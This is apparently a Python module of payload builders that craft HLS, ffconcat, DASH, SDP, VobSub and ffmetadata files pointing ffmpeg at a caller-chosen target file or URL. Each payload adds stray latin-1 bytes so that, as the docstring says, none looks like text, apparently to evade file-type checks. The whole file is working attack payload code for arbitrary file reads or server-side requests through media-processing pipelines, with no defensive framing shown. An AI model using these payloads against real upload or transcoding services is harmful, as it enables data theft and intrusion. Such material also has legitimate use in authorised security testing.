"""Files that make ffmpeg open other files. Written as latin-1, none of them looks like text."""


def hls(target: str) -> str:
    return f"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{target}\n#EXT-X-ENDLIST\n#\xe9\1"


def concat(target: str) -> str:
    return f"ffconcat version 1.0\nfile '{target}'\n#\xe9\1"


def dash(target: str) -> str:
    return (
        '<?xml version="1.0" encoding="ISO-8859-1"?><!--\xe9-->'
        '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1S"'
        ' profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"><Period><AdaptationSet'
        ' mimeType="video/mp4"><Representation id="1" bandwidth="9" width="64" height="48">'
        f"<BaseURL>{target}</BaseURL></Representation></AdaptationSet></Period></MPD>"
    )


def sdp(target: str) -> str:
    return f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns={target}\xe9\nc=IN IP4 127.0.0.1\nt=0 0\n" + (
        "m=video 45678 RTP/AVP 96\na=rtpmap:96 H264/90000\n"
    )


def vobsub(target: str) -> str:
    return f"# VobSub index file, v7\n# {target}\xe9\nid: en, index: 0\n"


def ffmetadata(target: str) -> str:
    return f";FFMETADATA1\ntitle={target}\xe9\n"
